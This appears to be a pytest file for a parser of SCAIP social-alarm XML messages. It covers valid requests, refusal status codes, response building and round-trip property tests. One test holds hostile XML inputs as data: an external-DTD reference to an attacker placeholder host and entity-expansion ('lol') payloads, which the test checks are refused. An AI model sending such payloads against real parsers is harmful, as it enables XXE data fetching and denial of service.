"""SCAIP bodies: reading an <mrq>, refusing bad ones with the right <snu>, writing the <mrs>."""

from __future__ import annotations

import xml.etree.ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trygg.receivers.scaip import (
    EventKind,
    ScaipError,
    StatusNumber,
    accepts_content_type,
    build_mrq,
    build_mrs,
    classify,
    parse_mrq,
    parse_mrs,
)
from trygg.receivers.scaip import scaip as scaip_module


def refused(body: bytes) -> ScaipError:
    with pytest.raises(ScaipError) as caught:
        parse_mrq(body)
    return caught.value


# Valid requests -----------------------------------------------------------------------


# Bodies as real units send them (see the sources in scaip.py's docstring).
@pytest.mark.parametrize(
    ("body", "message_type", "kind"),
    [
        (
            b"<mrq><ref>00001883</ref><cha>0</cha><mty>ME</mty><cid>26317</cid><dty>02</dty>"
            b"<did>00</did><crd>gsm:+46701234567</crd><stc>010</stc></mrq>",
            "ME",
            EventKind.ALARM,
        ),
        (
            b"<mrq><mty>PI</mty><ref>1998218577</ref><cid>10149471</cid><dty>2</dty></mrq>",
            "PI",
            EventKind.HEARTBEAT,
        ),
        (
            b"<mrq><ref>v6l7eiuzBTfybE7j</ref><cid>999998</cid><dty>0002</dty><mty>PI</mty>"
            b"<stc>0009</stc><lco>002</lco><crd>gsm:</crd><cha>0</cha></mrq>",
            "PI",
            EventKind.HEARTBEAT,
        ),
        (
            b"<mrq><ref>1193308443</ref><mty>RE</mty><cid>10149471</cid><dty>3</dty>"
            b"<stc>0093</stc></mrq>",
            "RE",
            EventKind.RESTORE,
        ),
        (
            b"<mrq><ref>A1</ref><mty>IN</mty><cid>1</cid><dty>5</dty><stc>16</stc></mrq>",
            "IN",
            EventKind.LOW_BATTERY,
        ),
        (
            b"<mrq><ref>803137200003</ref><cid> 8031372</cid><dty>0004</dty><stc>0010</stc>"
            b"<crd>gsm:+</crd></mrq>",
            "ME",  # no <mty>: an ordinary message
            EventKind.ALARM,
        ),
    ],
)
def test_it_reads_each_message_type(body: bytes, message_type: str, kind: EventKind) -> None:
    request = parse_mrq(body)
    assert request.message_type == message_type
    assert request.event_kind == kind
    assert request.raw_xml == body.decode()


def test_it_fills_every_field() -> None:
    body = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        "<mrq>\n  <ref>00AB12</ref>\n  <ver>01.00</ver>\n  <sco>0</sco>\n  <cha>1</cha>\n"
        "  <mty>ME</mty>\n  <hbo>0</hbo>\n  <cid>26317</cid>\n  <dty>5</dty>\n  <did>P-7</did>\n"
        "  <dco>2</dco>\n  <dte>Fallarmband</dte>\n  <crd>sip:26317@unit.example</crd>\n"
        "  <stc>9</stc>\n  <stt>Fall detected</stt>\n  <pri>7</pri>\n  <lco>21</lco>\n"
        "  <lva>1</lva>\n  <lte>Kök &amp; hall</lte>\n"
        "  <lge><geo>59.3293,18.0686</geo><tim>2026-03-10T08:15:00+01</tim></lge>\n"
        "  <ico>1</ico>\n  <ite>Extra</ite>\n  <ame>1</ame>\n</mrq>\n"
    ).encode()
    request = parse_mrq(body)
    assert request.reference == "00AB12"
    assert request.controller_id == "26317"
    assert request.device_type == "0005"
    assert request.device_id == "P-7"
    assert request.device_component == "002"
    assert request.device_text == "Fallarmband"
    assert request.caller_id == "sip:26317@unit.example"
    assert request.status_code == "0009"
    assert request.status_text == "Fall detected"
    assert request.priority == 7
    assert (request.location_code, request.location_value) == ("021", "1")
    assert request.location_text == "Kök & hall"
    assert request.position is not None
    assert request.position.latitude_longitude == (59.3293, 18.0686)
    assert request.position.time == "2026-03-10T08:15:00+01"
    assert (request.info_code, request.info_text) == ("001", "Extra")
    assert (request.version, request.system_config, request.call_handling) == ("01.00", "0", "1")
    assert (request.heartbeat_options, request.additional_message) == ("0", "1")
    assert request.event_kind == EventKind.ALARM


def test_unknown_tags_are_kept_not_refused() -> None:
    request = parse_mrq(
        b"<mrq><ref>1</ref><cid>2</cid><dty>3</dty><xyz>vendor</xyz><bat><lvl>9</lvl></bat></mrq>"
    )
    assert request.unknown_tags == (("xyz", "vendor"), ("bat", ""))


def test_namespaces_and_long_names_are_read_as_short_names() -> None:
    request = parse_mrq(
        b'<message-request xmlns="http://www.hi.se/2012/XScapXML"><reference>77</reference>'
        b"<controller-id>4711</controller-id><device-type>4</device-type>"
        b"<message-type>PI</message-type></message-request>"
    )
    assert (request.reference, request.controller_id, request.device_type) == ("77", "4711", "0004")
    assert request.event_kind == EventKind.HEARTBEAT


def test_a_byte_order_mark_is_accepted() -> None:
    assert parse_mrq(b"\xef\xbb\xbf" + build_mrq("1", "2", "3")).reference == "1"


def test_a_lower_case_message_type_is_accepted() -> None:
    assert parse_mrq(build_mrq("1", "2", "3", "pi")).message_type == "PI"


# Refused requests and their status numbers ------------------------------------------


@pytest.mark.parametrize(
    ("body", "missing"),
    [
        (b"<mrq><cid>26317</cid><dty>4</dty></mrq>", "ref"),
        (b"<mrq><ref>R1</ref><dty>4</dty></mrq>", "cid"),
        (b"<mrq><ref>R1</ref><cid>26317</cid></mrq>", "dty"),
        (b"<mrq><ref>R1</ref><cid>26317</cid><dty>  </dty></mrq>", "dty"),
        (b"<mrq/>", "ref, cid, dty"),
    ],
)
def test_a_missing_mandatory_tag_is_status_7(body: bytes, missing: str) -> None:
    error = refused(body)
    assert error.status == StatusNumber.MANDATORY_TAG_MISSING == 7
    assert missing in error.reason
    assert error.reference == ("" if missing.startswith("ref") else "R1")


@pytest.mark.parametrize(
    "body",
    [
        b"<mrq><ref>R1</ref><cid>26317</cid><dty>4</dty>",  # not closed
        b"<mrq><ref>R1</ref><cid>26317</cid></dty></mrq>",
        b"ref=R1;cid=26317",
        b"",
        b"<mrq><ref>R1</ref></mrq><mrq/>",
        b"<mrs><ref>R1</ref><snu>0</snu></mrs>",  # wrong root
        b"<mrq><ref>R1</ref><lte>\xff\xfe</lte></mrq>",  # not UTF-8
        b"<mrq><ref>R1</ref><lte>&nbsp;</lte></mrq>",  # undeclared entity
    ],
)
def test_malformed_xml_is_status_2(body: bytes) -> None:
    error = refused(body)
    assert error.status == StatusNumber.INVALID_FORMAT == 2
    # The reference is echoed when it can be picked out, so the unit can match the answer.
    assert error.reference in ("", "R1")


def test_malformed_xml_still_echoes_a_readable_reference() -> None:
    assert refused(b"<mrq><ref>R77</ref><cid>1</cid>").reference == "R77"


@pytest.mark.parametrize(
    "body",
    [
        b'<?xml version="1.0"?><!DOCTYPE mrq [<!ENTITY x "boom">]>'
        b"<mrq><ref>R1</ref><cid>1</cid><dty>2</dty><lte>&x;</lte></mrq>",
        b'<!DOCTYPE mrq SYSTEM "http://attacker.example/scaip.dtd">'
        b"<mrq><ref>R1</ref><cid>1</cid><dty>2</dty></mrq>",
        b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        b"<mrq><ref>R1</ref><cid>1</cid><dty>2</dty><lte>&lol2;</lte></mrq>",
        b"<!doctype mrq><mrq><ref>R1</ref><cid>1</cid><dty>2</dty></mrq>",
    ],
)
def test_doctype_and_entities_are_refused(body: bytes) -> None:
    error = refused(body)
    assert error.status == StatusNumber.INVALID_FORMAT
    assert error.reference == "R1"


def test_doctype_is_refused_without_defusedxml(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(scaip_module, "_DEFUSED", None)
    body = b'<!DOCTYPE m [<!ENTITY x "y">]><mrq><ref>R1</ref><cid>1</cid><dty>2</dty></mrq>'
    assert refused(body).status == StatusNumber.INVALID_FORMAT


def test_defusedxml_is_used_when_installed(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[bool] = []

    class FakeDefused:
        @staticmethod
        def fromstring(text: str, forbid_dtd: bool = False) -> ET.Element:
            calls.append(forbid_dtd)
            return ET.fromstring(text)  # noqa: S314

    monkeypatch.setattr(scaip_module, "_DEFUSED", FakeDefused)
    assert parse_mrq(build_mrq("1", "2", "3")).reference == "1"
    assert calls == [True]


@pytest.mark.parametrize(
    ("tag", "value"),
    [
        ("mty", "AL"),
        ("cid", "+46701234567"),
        ("cid", "12345678901234567"),
        ("dty", "fall"),
        ("stc", "10010"),
        ("pri", "high"),
        ("lco", "kitchen"),
        ("ref", "has space"),
        ("ref", "0123456789abcdefX"),
    ],
)
def test_wrong_data_is_status_3(tag: str, value: str) -> None:
    fields = {"ref": "R9", "cid": "26317", "dty": "4", tag: value}
    body = "<mrq>" + "".join(f"<{t}>{v}</{t}>" for t, v in fields.items()) + "</mrq>"
    error = refused(body.encode())
    assert error.status == StatusNumber.WRONG_DATA_CONTENT == 3
    assert tag in error.reason


def test_a_body_over_the_limit_is_status_1() -> None:
    body = build_mrq("R5", "1", "2", lte="x" * scaip_module.MAX_BODY_BYTES)
    error = refused(body)
    assert error.status == StatusNumber.MESSAGE_TOO_LONG == 1
    assert error.reference == "R5"


def test_an_error_turns_into_its_mrs() -> None:
    error = refused(b"<mrq><ref>R1</ref><cid>1</cid></mrq>")
    assert error.mrs() == b"<mrs><ref>R1</ref><snu>7</snu></mrs>"


# Event kinds ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("message_type", "status_code", "kind"),
    [
        ("ME", "0010", EventKind.ALARM),
        ("ME", "0009", EventKind.ALARM),
        ("ME", None, EventKind.ALARM),
        ("PI", "0102", EventKind.HEARTBEAT),
        ("PI", None, EventKind.HEARTBEAT),
        ("ME", "0102", EventKind.TEST),
        ("ME", "0103", EventKind.TEST),
        ("ME", "0016", EventKind.LOW_BATTERY),
        ("ME", "0125", EventKind.TAMPER),
        ("ME", "0085", EventKind.MAINS_LOSS),
        ("ME", "0086", EventKind.RESTORE),
        ("ME", "0019", EventKind.RESTORE),
        ("RE", "0010", EventKind.RESTORE),
        ("IN", None, EventKind.OTHER),
        ("ME", "0082", EventKind.OTHER),  # pill reminder: stored, shown, not an alarm
        ("XX", None, EventKind.OTHER),
    ],
)
def test_messages_map_to_event_kinds(
    message_type: str, status_code: str | None, kind: EventKind
) -> None:
    assert classify(message_type, status_code) == kind


def test_status_codes_are_compared_padded() -> None:
    assert parse_mrq(build_mrq("1", "2", "3", stc="16")).status_code == "0016"
    assert parse_mrq(build_mrq("1", "2", "3", stc="16")).event_kind == EventKind.LOW_BATTERY


# <mrs> ---------------------------------------------------------------------------------


def test_it_builds_the_mrs() -> None:
    assert build_mrs("00001883", StatusNumber.OK) == b"<mrs><ref>00001883</ref><snu>0</snu></mrs>"
    assert build_mrs("R1", 7, text="dty missing") == (
        b"<mrs><ref>R1</ref><snu>7</snu><ste>dty missing</ste></mrs>"
    )


def test_the_mrs_escapes_what_it_echoes() -> None:
    body = build_mrs("a<b&c", StatusNumber.WRONG_DATA_CONTENT, text="<x>")
    response = parse_mrs(body)
    assert (response.reference, response.status, response.text) == ("a<b&c", 3, "<x>")


@given(
    reference=st.text(alphabet="0123456789ABCDEFabcdef", min_size=1, max_size=16),
    status=st.sampled_from(list(StatusNumber)),
)
def test_mrs_round_trips(reference: str, status: StatusNumber) -> None:
    response = parse_mrs(build_mrs(reference, status))
    assert (response.reference, response.status) == (reference, status)
    assert response.ok == (status == StatusNumber.OK)


@given(
    reference=st.from_regex(r"[0-9A-Za-z]{1,16}", fullmatch=True),
    controller=st.from_regex(r"[0-9]{1,16}", fullmatch=True),
    device_type=st.from_regex(r"[0-9]{1,4}", fullmatch=True),
    message_type=st.sampled_from(["ME", "RE", "IN", "PI"]),
    text=st.text(
        alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Cn")), min_size=1, max_size=40
    ).filter(lambda t: t.strip() == t),
)
def test_mrq_round_trips(
    reference: str, controller: str, device_type: str, message_type: str, text: str
) -> None:
    request = parse_mrq(build_mrq(reference, controller, device_type, message_type, lte=text))
    assert request.reference == reference
    assert request.controller_id == controller
    assert request.device_type == device_type.zfill(4)
    assert request.message_type == message_type
    assert request.location_text == text


def test_parse_mrs_refuses_a_response_without_snu() -> None:
    with pytest.raises(ScaipError) as caught:
        parse_mrs(b"<mrs><ref>1</ref></mrs>")
    assert caught.value.status == StatusNumber.MANDATORY_TAG_MISSING


@pytest.mark.parametrize(
    ("value", "accepted"),
    [
        ("application/scaip+xml", True),
        ("Application/SCAIP+XML; charset=utf-8", True),
        ("application/xml", False),
        ("text/plain", False),
        (None, False),
        ("", False),
    ],
)
def test_content_type_check(value: str | None, accepted: bool) -> None:
    assert accepts_content_type(value) is accepted
